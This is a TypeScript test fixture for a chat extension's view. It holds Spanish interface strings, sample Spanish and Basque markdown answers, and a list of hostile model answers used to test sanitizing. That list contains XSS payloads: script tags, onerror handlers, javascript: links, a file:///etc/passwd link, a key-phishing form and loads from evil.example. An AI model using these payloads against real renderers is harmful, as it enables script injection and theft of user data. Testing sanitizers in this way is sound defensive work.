// The samples are in Spanish and Basque. cspell:disable
import type { ViewAnswers, ViewMessage, ViewState, ViewText } from '../../src/core/chat/protocol';
import { composerWith } from './composerSamples';

/** Words of the view in Spanish. */
export const spanish: ViewText = {
  composerPlaceholder: 'Pregunta sobre tu código',
  composerLabel: 'Pregunta',
  send: 'Enviar',
  stop: 'Detener',
  newChat: 'Conversación nueva',
  copy: 'Copiar',
  copied: 'Copiado',
  insert: 'Insertar',
  copyCode: 'Copiar el código',
  insertCode: 'Insertar en el cursor',
  you: 'Tú',
  assistant: 'Aliada',
  conversation: 'Conversación',
  statusAnswering: 'Respondiendo…',
  statusTranslating: 'Traduciendo…',
  statusDone: 'Respuesta completa',
  statusFailed: 'La respuesta ha fallado',
  statusStopped: 'Respuesta detenida',
  stoppedNote: 'Detenida por ti. El texto está incompleto.',
  cutNote: 'El modelo ha llegado a su límite. El texto está incompleto.',
  emptyTitle: 'Pregunta en tu lengua',
  emptyBody: 'Selecciona código y pide que te lo explique, o escribe abajo lo que quieres saber.',
  selectionAttached: 'Va con la pregunta:',
  answersMenu: 'Idioma y nivel de las respuestas',
  scopeLabel: 'Elegir',
  scopeConversation: 'Para esta conversación',
  scopeForGood: 'Para siempre',
  languagesLabel: 'Responde en',
  levelsLabel: 'Explicaciones',
  independent: 'Aliada es un proyecto independiente del BSC y del programa ALIA.',
  actions: {
    copyAnswer: 'Copiar la respuesta',
    regenerate: 'Responder otra vez',
    continue: 'Continuar',
    edit: 'Editar la pregunta',
    editLabel: 'La pregunta con otras palabras',
    sendEdited: 'Enviar',
    cancel: 'Cancelar',
    previous: 'Versión anterior',
    next: 'Versión siguiente',
    followUps: 'Seguir con',
    interruptedNote: 'La ventana se cerró antes de que la respuesta estuviera completa.',
  },
  history: {
    title: 'Conversaciones',
    open: 'Ver las conversaciones',
    close: 'Volver al chat',
    search: 'Buscar en títulos y textos',
    searching: 'Buscando…',
    none: 'Aún no hay conversaciones.',
    nothingFound: 'No se ha encontrado nada.',
    rename: 'Cambiar el nombre',
    renameLabel: 'Nombre de la conversación',
    export: 'Exportar como Markdown',
    delete: 'Eliminar',
    deleted: 'Eliminada',
    undo: 'Deshacer',
    deleteAll: 'Eliminar todas',
    current: 'abierta ahora',
  },
  code: {
    apply: 'Aplicar',
    applyName: 'Aplicar al archivo: muestra antes los cambios',
    newFile: 'Archivo nuevo',
    newFileName: 'Abrir como archivo nuevo',
    terminal: 'Terminal',
    terminalName: 'Escribir en un terminal, sin ejecutarlo',
    unseen: 'Este código tiene caracteres que no se ven. Se muestran con su código.',
    copiedUnseen: 'Copiado, con los caracteres que no se ven.',
  },
};

const inSpanish: ViewAnswers = {
  language: 'Español',
  lang: 'es',
  description: 'Responde en español. Lo elegiste en la configuración.',
  languages: [
    { value: 'auto', label: 'Automático', checked: false },
    { value: 'es', label: 'Español', lang: 'es', checked: true },
    { value: 'es-419', label: 'Español (América)', lang: 'es-419', checked: false },
    { value: 'eu', label: 'Euskara', lang: 'eu', checked: false },
  ],
  levels: [
    { value: 'beginner', label: 'Para principiantes', checked: false },
    { value: 'standard', label: 'Normales', checked: true },
    { value: 'brief', label: 'Breves', checked: false },
  ],
};

/** A state with nothing in it, changed as a test needs it. */
export function stateWith(changes: Partial<ViewState> = {}): ViewState {
  return {
    ...{ lang: 'es', text: spanish, messages: [], busy: false, answers: inSpanish },
    composer: composerWith(),
    ...changes,
  };
}

export function question(id: string, text: string, changes: Partial<ViewMessage> = {}): ViewMessage {
  return { id, role: 'user', text, status: 'done', lang: 'es', attachments: [], ...changes };
}

export function answer(id: string, text: string, changes: Partial<ViewMessage> = {}): ViewMessage {
  return {
    ...{ id, role: 'assistant', text, status: 'done', lang: 'es', attachments: [] },
    source: { model: 'ALIA-40b-instruct', host: 'endpoint.example.es' },
    ...changes,
  };
}

const fence = '```';

/** A long answer with everything that models write, in Spanish. */
export const longAnswer = `# Qué hace \`total_por_categoria\`

La función **recorre la lista una sola vez** y suma los importes por categoría. Consulta la
[documentación de Python](https://docs.python.org/es/3/library/collections.html) y [la guía][guia].

## Paso a paso

1. Crea un diccionario con valor por defecto.
2. Para cada gasto:
   - lee la *categoría*;
   - suma el importe:

     ${fence}python
     totales[gasto.categoria] += gasto.importe
     ${fence}

   - y sigue con el siguiente.
3. Devuelve el diccionario.

- [x] Sin efectos secundarios
- [ ] Con anotaciones de tipos

| Operación | Coste | Memoria adicional | Cuándo conviene usarla |
|---|---:|:---:|---|
| \`defaultdict\` | O(n) | O(k) | casi siempre |
| ordenar y agrupar | O(n log n) | O(n) | si además quieres el orden |
| \`Counter\` | O(n) | O(k) | con enteros |

### Versión con tipos

${fence}python
from collections import defaultdict
from decimal import Decimal

def total_por_categoria(gastos: list[Gasto]) -> dict[str, Decimal]:
    """Suma los importes de cada categoría; una lista vacía da un diccionario vacío."""
    totales: defaultdict[str, Decimal] = defaultdict(Decimal)
    for gasto in gastos:
        totales[gasto.categoria] += gasto.importe
    return dict(totales)
${fence}

> **Nota:** con \`float\` se pierden céntimos.
>
> > Lo mismo ocurre en JavaScript.

La misma idea en TypeScript:

${fence}typescript
const totales = new Map<string, number>();
for (const { categoria, importe } of gastos) totales.set(categoria, (totales.get(categoria) ?? 0) + importe);
${fence}

---

Y en SQL, que lo hace la base de datos:

${fence}sql
SELECT categoria, SUM(importe) FROM gastos GROUP BY categoria;
${fence}

Si algo queda oscuro, pregunta.

[guia]: https://example.org/guia
`;

/** A shorter one in Basque, with a fence that never ends. */
export const basqueAnswer = `Funtzio honek **zerrenda behin bakarrik** zeharkatzen du:

1. hiztegi huts bat sortzen du;
2. gastu bakoitzaren zenbatekoa bere kategoriari gehitzen dio.

${fence}rust
fn batu(gastuak: &[Gastua]) -> HashMap<String, i64> {
    let mut batura = HashMap::new();
`;

/** Answers that try to run, load or hide something. Each sets \`pwned\` or fetches from evil.example if it can. */
export const hostileAnswers: readonly string[] = [
  '<script>window.pwned = 1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.pwned = 1">',
  '![seguimiento](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![a](https://evil.example/a.png "onerror=alert(1)")',
  '[pulsa](javascript:window.pwned=1)',
  '[pulsa](JaVaScRiPt&colon;window.pwned=1)',
  '[pulsa](java\tscript:window.pwned=1)',
  '[orden](command:workbench.action.terminal.new)',
  '[datos](data:text/html,<script>parent.pwned=1</script>)',
  '[fichero](file:///etc/passwd)',
  '[vscode](vscode://settings/x)',
  '[cita](https://ok.example/"onmouseover="window.pwned=1)',
  '<https://ok.example/"onmouseover="window.pwned=1>',
  '<a href="javascript:window.pwned=1">enlace</a>',
  '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1"/></svg>',
  '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.pwned=1>',
  '<style>body { display: none } @import url(https://evil.example/x.css);</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example/"><input name="key"><button>Clave</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
  '<video><source onerror="window.pwned=1"></video><audio src="https://evil.example/a.mp3">',
  '<b onclick="window.pwned=1" style="position:fixed;inset:0">negrita</b>',
  '<br><kbd>Ctrl</kbd> <sub>2</sub>',
  '| a |\n|---|\n| <img src=x onerror=window.pwned=1> [x](javascript:pwned=1) |',
  '- <script>window.pwned=1</script>\n  - > <img src=x onerror=window.pwned=1>',
  '```html"><script>window.pwned=1</script>\n<img src=x onerror=window.pwned=1>\n```',
  '```\n</code></pre><script>window.pwned=1</script>\n```',
  '`<img src=x onerror=window.pwned=1>` ``</code><script>window.pwned=1</script>``',
  '[x]: javascript:window.pwned=1\n\n[pulsa][x]',
  '<a id="chat" name="body">clobber</a><form id="document"><input name="cookie"></form>',
  '<template><script>window.pwned=1</script></template><noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  `${'>'.repeat(10_000)} hondo`,
  `${'*'.repeat(500)} ${'['.repeat(2000)} ${'`'.repeat(999)}`,
];
